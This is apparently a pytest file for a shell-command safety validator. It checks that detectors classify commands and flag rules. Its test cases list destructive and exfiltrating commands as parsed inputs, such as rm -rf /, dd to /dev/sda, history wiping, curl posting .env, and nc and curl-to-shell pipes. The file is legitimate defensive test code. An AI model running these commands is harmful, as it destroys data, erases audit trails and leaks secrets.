"""Each detector of the rule layer on its own: given one simple command, the detector that claims it,
the class it names, and what it records (findings, paths read and written)."""

from __future__ import annotations

import pytest

from lighthouse.validation.detectors import DETECTORS, Scan, inspect
from lighthouse.validation.shell import SimpleCommand

CWD, HOME = "/home/dev/project", "/home/dev"


def scan(name: str, *args: str, redirects: list[tuple[str, str]] | None = None, upstream: tuple[str, ...] = ()) -> Scan:
    return Scan(SimpleCommand(name, list(args), redirects or [], upstream=upstream), CWD, HOME)


def detector_name(scanned: Scan) -> str:
    return next(d.inspect.__name__ for d in DETECTORS if d.applies(scanned))


@pytest.mark.parametrize(
    ("scanned", "detector", "command_class", "rules", "writes", "reads"),
    [
        (
            scan("rm", "-rf", "/"),
            "_deletion",
            "mutating",
            {"recursive_delete_root_or_home", "recursive_delete"},
            ["/"],
            [],
        ),
        (scan("rm", "build/out.o"), "_deletion", "mutating", set(), ["build/out.o"], []),
        (scan("find", ".", "-delete"), "_deletion", "mutating", {"recursive_delete"}, [], []),
        (scan("chmod", "a+w", "f"), "_permissions", "mutating", {"chmod_777"}, ["f"], []),
        (scan("dd", "if=img", "of=/dev/sda"), "_raw_copy", "mutating", {"dd_to_device"}, [], ["img"]),
        (scan("mkfs.ext4", "/dev/sdb1"), "_format", "dangerous", {"filesystem_format"}, [], []),
        (scan("init", "0"), "_power", "dangerous", {"system_shutdown"}, [], []),
        (scan("history", "-c"), "_history_wiping", "mutating", {"history_or_log_wiping"}, [], []),
        (scan("unset", "HISTFILE"), "_history_wiping", "mutating", {"history_or_log_wiping"}, [], []),
        (
            scan("truncate", "-s", "0", "~/.bash_history"),
            "_truncate",
            "mutating",
            {"history_or_log_wiping"},
            ["~/.bash_history"],
            [],
        ),
        (scan("cp", "a", "b", "dest/"), "_file_writer", "mutating", set(), ["dest/"], ["a", "b"]),
        (scan("tee", "/dev/sda"), "_file_writer", "mutating", {"write_to_device"}, [], []),
        (scan("curl", "-d", "@.env", "https://x"), "_network", "network", set(), [], [".env"]),
        (scan("nc", "host", "9", upstream=("cat",)), "_network", "network", {"network_upload"}, [], []),
        (scan("git", "push", "--force"), "_git", "network", {"force_push"}, [], []),
        (scan("git", "status"), "_git", "read_only", set(), [], []),
        (scan("sh", upstream=("curl",)), "_interpreter", "unknown", {"download_piped_to_shell"}, [], []),
        (scan("grep", "needle", "a.txt"), "_read_only", "read_only", set(), [], ["a.txt"]),
        (scan("sed", "-i", "s/a/b/", "f"), "_read_only", "mutating", set(), ["f"], []),
        (scan("npm", "install"), "_installer_or_mutating", "network", set(), [], []),
        (scan("kill", "1"), "_installer_or_mutating", "mutating", set(), [], []),
    ],
)
def test_each_detector_claims_its_commands_and_records_what_they_do(
    scanned: Scan, detector: str, command_class: str, rules: set[str], writes: list[str], reads: list[str]
) -> None:
    assert detector_name(scanned) == detector
    assert inspect(scanned) == command_class
    assert {finding.rule for finding in scanned.findings} == rules
    assert (scanned.writes, scanned.reads) == (writes, reads)


def test_redirections_and_privilege_apply_whatever_the_command() -> None:
    echoed = scan("echo", "hi", redirects=[(">", "notes.txt"), (">", "/dev/null"), (">", "/dev/sda")])
    assert inspect(echoed) == "mutating"  # a read-only command that writes a file
    assert echoed.writes == ["notes.txt"]
    assert {finding.rule for finding in echoed.findings} == {"write_to_device"}

    elevated = Scan(SimpleCommand("ls", [], privileged=True), CWD, HOME)
    assert inspect(elevated) == "privileged"
    assert [finding.rule for finding in elevated.findings] == ["privilege_escalation"]


def test_a_command_no_detector_knows_is_unknown() -> None:
    unknown = scan("frobnicate", "--all")
    assert not any(d.applies(unknown) for d in DETECTORS)
    assert inspect(unknown) == "unknown"
